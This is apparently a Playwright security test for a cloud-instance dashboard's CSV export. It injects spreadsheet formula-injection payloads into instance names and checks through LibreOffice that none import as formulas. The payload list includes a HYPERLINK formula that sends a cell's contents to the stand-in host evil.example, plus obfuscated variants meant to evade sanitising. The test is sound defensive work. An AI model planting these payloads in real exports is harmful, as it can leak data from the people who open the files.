import { execFileSync } from 'node:child_process'
import { existsSync, mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { RawInstance } from '../sim/api-types.ts'
import { csvRecords, exportFile, parseCsv } from './exports.ts'
import { expect, signInWithDemo, test } from './fixtures.ts'

const SOFFICE = process.env.SOFFICE_PATH ?? '/usr/bin/soffice'

/** Text that runs as a formula in a spreadsheet that strips what comes before it or splits it. */
const PAYLOADS = [
  '\u0000=HYPERLINK("https://evil.example/?d="&B2;"Open")',
  '\u0000=1+1',
  ' =1+1',
  '  @SUM(1+1)',
  'x;=1+1',
  'x\t=1+1',
  'x, =1+1',
  '\t-1+1',
  '\u200B=1+1',
  '\uFEFF+1+1',
  '＝1+1',
  '"=1+1',
  'two\r\n=1+1',
]

/** LibreOffice's CSV import: separator, quote, UTF-8, from line 1, …, token 11 "remove spaces" on. */
const filter = (separator: number) => `CSV:${separator},34,76,1,,0,false,false,false,false,true`

/** The file converted as LibreOffice Calc imports it, then every formula cell it made. */
function formulasInLibreOffice(file: string, separator: number, dir: string): string[] {
  const out = join(dir, String(separator))
  execFileSync(
    SOFFICE,
    [
      '--headless',
      `-env:UserInstallation=file://${join(dir, 'profile')}`,
      `--infilter=${filter(separator)}`,
      '--convert-to',
      'fods',
      '--outdir',
      out,
      file,
    ],
    { stdio: 'ignore', timeout: 60_000 },
  )
  const fods = readFileSync(join(out, 'export.fods'), 'utf8')
  return [...fods.matchAll(/table:formula="([^"]*)"/g)].map((match) => match[1] ?? '')
}

test('no spreadsheet formula in the CSV, imported with , ; or tab as separator and spaces trimmed', async ({
  page,
}) => {
  if (!existsSync(SOFFICE))
    throw new Error(
      `LibreOffice is not installed (looked for ${SOFFICE}; SOFFICE_PATH moves it). Debian: ` +
        'apt-get install -y --no-install-recommends libreoffice-calc-nogui',
    )
  test.setTimeout(60_000)
  // HPC-AI's answer through the real proxy, with names and regions a spreadsheet would run.
  await page.route('**/api/instance/list', async (route) => {
    const response = await route.fetch()
    const body = (await response.json()) as { instances?: RawInstance[] }
    body.instances?.forEach((raw, index) => {
      const payload = PAYLOADS[index % PAYLOADS.length] ?? ''
      raw.instanceSpecInfo.name = payload
      raw.instanceSpecInfo.regionInfo.name = `${payload}-region`
      raw.instanceSpecInfo.regionInfo.location = payload
    })
    await route.fulfill({ response, json: body })
  })
  await signInWithDemo(page)

  const csv = await exportFile(page, 'CSV')
  const { records } = csvRecords(csv.text, parseCsv)
  // The payloads are in the file, as text.
  expect(records.map((record) => record.Name)).toEqual(
    expect.arrayContaining([
      expect.stringContaining('HYPERLINK'),
      expect.stringContaining('＝1+1'),
    ]),
  )
  const dir = mkdtempSync(join(tmpdir(), 'hpcai-csv-'))
  try {
    const file = join(dir, 'export.csv')
    writeFileSync(file, csv.bytes)
    for (const separator of [44, 59, 9]) {
      expect(formulasInLibreOffice(file, separator, dir), `separator ${separator}`).toEqual([])
    }
  } finally {
    rmSync(dir, { recursive: true, force: true })
  }
})
